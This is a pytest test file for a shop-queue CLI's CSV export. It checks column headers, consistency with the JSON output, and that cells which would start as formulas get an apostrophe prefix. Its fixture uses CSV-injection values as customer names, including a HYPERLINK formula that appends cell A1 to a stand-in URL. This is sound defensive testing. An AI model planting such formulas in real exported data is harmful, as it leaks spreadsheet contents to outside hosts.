"""Every list as CSV: its columns, its rows, and names that a spreadsheet would run."""

import csv
import io
import json
from pathlib import Path

import pytest

from queueboard.cli import main
from queueboard.cli.common import FINE, NOTHING_FOUND, USAGE
from queueboard.cli.running import build_parser
from queueboard.papers.csv_lists import TABLES, typed_cell
from queueboard.shop.money import take_payment
from queueboard.shop.opening import close_shop
from queueboard.words import Settling
from tests.cli.schema import clock
from tests.house.test_readme import commands, options
from tests.shop.place import by, cash, counter, parcel, small_shop
from tests.shop.undo_charging import gone_as

FORMULA = '=HYPERLINK("http://x.invalid?"&A1,"[red]Oake[/]")'
ASKED = {"box": ["101"], "find": ["dunmere"], "customer": ["dunmere"]}
"""What a command needs besides its name."""


@pytest.fixture
def formulas(tmp_path: Path) -> str:
    """A shop whose customers are called what a spreadsheet would run."""
    shop = small_shop(tmp_path)
    made = counter(shop, name="@SUM(A1)", things=("-2+3",))
    parcel(shop, name=FORMULA)
    take_payment(shop, by(), made.box, cash(500))
    close_shop(shop)
    return str(shop.path)


def rows(capsys: pytest.CaptureFixture[str]) -> list[dict[str, str]]:
    """What was printed, read as RFC 4180 reads it."""
    text = capsys.readouterr().out
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("name", TABLES)
def test_each_list_has_its_columns_and_no_formula(name: str, formulas: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Each list's first line names its columns; no cell of a row begins as a formula."""
    assert main([name, *ASKED.get(name, []), "--csv", "--file", formulas], clock=clock) == FINE

    text = capsys.readouterr().out
    head, *body = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert head == [column.replace(".", "_") for column in TABLES[name].columns]
    assert not [cell for row in body for cell in row if cell[:1] in "=@+" and cell]
    assert all(len(row) == len(head) for row in body)


def test_the_boxes_are_those_of_the_facts(formulas: str, capsys: pytest.CaptureFixture[str]) -> None:
    """CSV and JSON tell the same of each box: names as typed behind their apostrophe, money in cents, bare numbers."""
    assert main(["boxes", "--json", "--file", formulas], clock=clock) == FINE
    facts = json.loads(capsys.readouterr().out)["boxes"]
    assert main(["boxes", "--csv", "--file", formulas], clock=clock) == FINE
    read = rows(capsys)

    assert [typed_cell(row["customer_name"]) for row in read] == [box["customer"]["name"] for box in facts]
    assert [int(row["owed_cents"]) for row in read] == [box["owed_cents"] for box in facts]
    assert {row["customer_name"] for row in read} == {"'@SUM(A1)", f"'{FORMULA}"}


def test_nothing_found_is_a_head_without_rows(formulas: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A search that finds nothing prints the columns, says so and ends with its own code."""
    assert main(["find", "nobody", "--csv", "--file", formulas], clock=clock) == NOTHING_FOUND

    assert capsys.readouterr().out.count("\r\n") == 1


def test_two_shapes_at_once_are_refused(formulas: str, capsys: pytest.CaptureFixture[str]) -> None:
    """JSON and CSV exclude each other."""
    with pytest.raises(SystemExit) as ended:
        main(["boxes", "--csv", "--json", "--file", formulas], clock=clock)

    assert ended.value.code == USAGE
    assert capsys.readouterr().out == ""


def test_every_csv_has_its_table() -> None:
    """A command takes --csv exactly where its columns are known."""
    assert {name for name, parser in commands(build_parser()) if "--csv" in options(parser)} == set(TABLES)


def test_find_lists_the_boxes_that_are_gone_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Open boxes, then those gone, as the text has them; those gone say when they left, with whom and how paid."""
    shop = small_shop(tmp_path)
    gone_as(shop, Settling.ON_ACCOUNT, name="@SUM(A1)")
    counter(shop, name="@SUM(A1)")
    close_shop(shop)
    assert main(["find", "sum", "--file", str(shop.path)], clock=clock) == FINE
    said = capsys.readouterr().out.splitlines()

    assert main(["find", "sum", "--csv", "--file", str(shop.path)], clock=clock) == FINE

    read = rows(capsys)
    assert [row["number"] for row in read] == ["101", "100"]
    assert len(read) == sum(line.startswith("Box ") for line in said)
    assert [row["customer_name"] for row in read] == ["'@SUM(A1)", "'@SUM(A1)"]
    assert [(row["left_at"][:10], row["handed_to"], row["settled"]) for row in read] == [
        ("", "", ""),
        ("2026-11-09", "'@SUM(A1)", "on account"),
    ]
    assert read[1]["owed_cents"] == "1800"
    assert not [cell for row in read for cell in row.values() if "{" in cell]
